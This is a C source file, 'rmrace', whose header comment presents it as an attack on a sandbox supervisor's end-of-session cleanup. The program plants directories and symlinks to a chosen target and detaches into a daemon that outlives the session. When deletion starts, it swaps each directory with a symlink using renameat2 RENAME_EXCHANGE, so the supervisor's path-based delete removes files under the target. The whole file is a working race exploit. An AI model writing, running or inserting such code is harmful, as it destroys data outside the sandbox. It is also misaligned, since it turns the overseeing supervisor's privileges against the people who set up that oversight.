/* rmrace BASE TARGET N PIDFILE: the attack on the supervisor's end-of-session
 * cleanup of a directory the sandbox can write (a session without a pid
 * namespace outlives nothing, but a daemon it leaves behind does).
 *
 * Makes BASE/d0..d7 with N files named vNNNN between them and symbolic
 * links BASE/s0..s7 to TARGET, then detaches and, for at most 20 s,
 * watches d0..d7: at the first deletion in dK it exchanges dK and sK
 * (renameat2 RENAME_EXCHANGE), so that a cleanup that removes by path
 * string goes on through the link and removes TARGET/vNNNN instead. The
 * detached process's pid goes to PIDFILE. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define P 8

int main(int argc, char **argv)
{
	if (argc != 5)
		return 2;
	const char *base = argv[1], *target = argv[2];
	int n = atoi(argv[3]), wd[P], done[P] = {0};
	char f[4200];
	int in = inotify_init1(IN_CLOEXEC);
	if (in < 0)
		return 1;
	for (int p = 0; p < P; p++) {
		snprintf(f, sizeof f, "%s/d%d", base, p);
		mkdir(f, 0700);
		for (int i = p; i < n; i += P) {
			snprintf(f, sizeof f, "%s/d%d/v%04d", base, p, i);
			close(open(f, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
		}
		snprintf(f, sizeof f, "%s/d%d", base, p);
		wd[p] = inotify_add_watch(in, f, IN_DELETE);
		snprintf(f, sizeof f, "%s/s%d", base, p);
		if (symlink(target, f) < 0)
			return 1;
	}
	if (fork())
		return 0;
	setsid();
	if (fork())
		_exit(0);
	FILE *pidf = fopen(argv[4], "w");
	if (pidf) {
		fprintf(pidf, "%d\n", (int)getpid());
		fclose(pidf);
	}
	int nul = open("/dev/null", O_RDWR);
	dup2(nul, 0), dup2(nul, 1), dup2(nul, 2);
	int dfd = open(base, O_RDONLY | O_DIRECTORY);
	time_t end = time(NULL) + 20;
	char buf[65536], a[16], b[16];
	while (time(NULL) < end) {
		struct pollfd pf = {in, POLLIN, 0};
		if (poll(&pf, 1, 1000) <= 0)
			continue;
		ssize_t r = read(in, buf, sizeof buf);
		for (char *q = buf; r > 0 && q < buf + r;) {
			struct inotify_event *e = (void *)q;
			q += sizeof *e + e->len;
			for (int p = 0; p < P; p++)
				if (e->wd == wd[p] && !done[p]) {
					snprintf(a, sizeof a, "d%d", p);
					snprintf(b, sizeof b, "s%d", p);
					if (syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE) == 0)
						done[p] = 1;
				}
		}
	}
	_exit(0);
}
